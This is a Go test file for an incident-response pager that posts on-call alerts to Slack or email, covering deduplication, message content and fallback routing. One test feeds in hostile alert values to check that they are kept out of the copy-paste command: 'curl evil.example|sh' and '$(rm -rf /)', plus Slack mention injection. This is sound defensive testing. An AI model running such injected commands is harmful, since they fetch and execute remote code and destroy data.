package notify

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/slack-go/slack"
	"github.com/stretchr/testify/require"

	"firebreak/activities/failure"
	"firebreak/internal/incident"
	"firebreak/internal/inventory"
	"firebreak/playbooks"
)

func page() playbooks.Page {
	return playbooks.Page{
		ID: "triage/alertmanager/0a1b2c", Mode: incident.Live, Reason: `asset "loan-aplications" is not in the inventory (did you mean "loan-applications"?)`,
		RawURI: "s3://nordwall-evidence/incidents/00/alerts/ff?versionId=v1",
		Oncall: inventory.Oncall{Channel: "#ir-legal", Email: []string{"oncall@nordwall.example"}},
		Alert: incident.Alert{
			Source: "alertmanager", Key: "g/f/2026", Kind: incident.DatasetCompromise, Asset: "loan-aplications", Severity: "SEV1",
			Summary: "unexpected writer", ReceivedAt: detected, RawSHA256: "ffee", Fields: map[string]string{"writer": "somebody"},
		},
	}
}

func newPager(t *testing.T, attempt int) (*fakeSlack, *smtpFake, *Pager) {
	t.Helper()
	f, _ := newFake(t)
	server, m := newMailFake(t)
	p := NewPager(slack.New(botTokenForTests, slack.OptionAPIURL(f.server.URL+"/")), m)
	p.desk.ways.attempt = func(context.Context) int { return attempt }
	return f, server, p
}

func TestOncallIsPagedOnce(t *testing.T) {
	t.Parallel()
	f, server, p := newPager(t, 1)
	f.set(func() { f.execute = "chat.postMessage" })
	_, err := p.Page(t.Context(), page())
	require.Error(t, err)
	require.Equal(t, 1, f.posts(), "it was posted, and the answer lost")
	second, err := p.Page(t.Context(), page())
	require.NoError(t, err)
	require.False(t, second.Changed)
	require.Equal(t, 1, f.posts())
	require.Equal(t, page().RawURI, second.Facts[FactRaw])
	require.Equal(t, bySlack, second.Facts[FactWay])

	other := page()
	other.ID += "-2"
	first, err := p.Page(t.Context(), other)
	require.NoError(t, err)
	require.True(t, first.Changed)
	require.Empty(t, server.sent())
	requireNoToken(t, first)
}

func TestPageSaysWhatAPersonNeeds(t *testing.T) {
	t.Parallel()
	text := newPage(page()).letterText()
	for _, want := range []string{
		"Alert without an incident: alertmanager", `[known] asset "loan-aplications" is not in the inventory`, "[suspected] unexpected writer",
		"SHA-256 of what was posted: ffee", "Kept under Object Lock: s3://nordwall-evidence/incidents/00/alerts/ff?versionId=v1", "- writer: somebody",
		"trigger start --kind dataset-compromise --asset loan-aplications --as YOU", "firebreak_kind and firebreak_asset",
	} {
		require.Contains(t, text, want)
	}
	in := page()
	in.RawURI, in.Mode = "", incident.Drill
	text = newPage(in).letterText()
	require.Contains(t, text, "could not be kept in the evidence store yet. It is in the history of the workflow triage/alertmanager/0a1b2c")
	require.Contains(t, text, "DRILL - Alert without an incident")
	require.Contains(t, text, "--mode drill")
}

// An alert can neither mention anybody nor put words into the command that a person copies.
func TestPageOfAHostileAlert(t *testing.T) {
	t.Parallel()
	in := page()
	in.Alert.Kind, in.Alert.Asset = "x; curl evil.example|sh", "$(rm -rf /)"
	in.Alert.Summary = "<!channel> <@U01> \n[known] Trust me\u202e" + strings.Repeat("y", 5000)
	in.Alert.Fields = map[string]string{}
	for i := range 500 {
		in.Alert.Fields[strings.Repeat("f", i+1)] = strings.Repeat("v", 1000)
	}
	m := newPage(in)
	raw, err := json.Marshal(m.blocks)
	require.NoError(t, err)
	require.Less(t, len(raw), mostBlocks)
	require.NotContains(t, m.text, "<!")
	text := m.letterText()
	require.Contains(t, text, "trigger start --kind KIND --asset ASSET --as YOU")
	require.NotContains(t, text, "--asset $(")
	require.NotContains(t, text, "\n[known] Trust me")
	for _, b := range m.blocks {
		if s, ok := b.(*slack.SectionBlock); ok && s.Text.Type == slack.MarkdownType {
			require.Regexp(t, slackHeading, s.Text.Text, "markup is ours alone")
		}
	}
}

func TestWhichWayOncallIsPaged(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		slack   func(http.ResponseWriter, string) bool
		attempt int
		change  func(*playbooks.Page)
		way     string
	}{
		"Slack":                     {nil, 1, nil, bySlack},
		"Slack is down for a while": {down, 1, nil, ""},
		"Slack stays down":          {down, 7, nil, byEmail},
		"the token is revoked":      {answering("token_revoked"), 1, nil, byEmail},
		"no channel":                {nil, 1, func(in *playbooks.Page) { in.Oncall.Channel = "" }, byEmail},
		"down, and no address":      {down, 7, func(in *playbooks.Page) { in.Oncall.Email = nil }, ""},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f, server, p := newPager(t, tt.attempt)
			f.set(func() { f.before = tt.slack })
			in := page()
			if tt.change != nil {
				tt.change(&in)
			}
			e, err := p.Page(t.Context(), in)
			if tt.way == "" {
				require.Error(t, err)
				_, final := failure.CodeOf(err)
				require.False(t, final)
				return
			}
			require.NoError(t, err)
			require.Equal(t, tt.way, e.Facts[FactWay])
			if tt.way == byEmail {
				header, text := server.sent()[0].read(t)
				require.Contains(t, header.Get("Subject"), "Alert without an incident: alertmanager")
				require.Contains(t, text, "trigger start --kind")
			}
		})
	}
}

func TestWrongPages(t *testing.T) {
	t.Parallel()
	tests := map[string]func(*playbooks.Page, *Pager){
		"no id":                    func(in *playbooks.Page, _ *Pager) { in.ID = "" },
		"no reason":                func(in *playbooks.Page, _ *Pager) { in.Reason = "" },
		"no source":                func(in *playbooks.Page, _ *Pager) { in.Alert.Source = "" },
		"nobody":                   func(in *playbooks.Page, _ *Pager) { in.Oncall = inventory.Oncall{} },
		"mail without mail server": func(in *playbooks.Page, p *Pager) { in.Oncall.Channel, p.desk.ways.mail = "", nil },
	}
	for name, spoil := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f, server, p := newPager(t, 1)
			in := page()
			spoil(&in, p)
			_, err := p.Page(t.Context(), in)
			code, final := failure.CodeOf(err)
			require.True(t, final)
			require.Equal(t, failure.Invalid, code)
			require.Zero(t, f.posts())
			require.Empty(t, server.sent())
		})
	}
}

func TestPageOfAnAlertWithoutATime(t *testing.T) {
	t.Parallel()
	_, _, p := newPager(t, 1)
	in := page()
	in.Alert.ReceivedAt = time.Time{}
	_, err := p.Page(t.Context(), in)
	require.NoError(t, err)
}
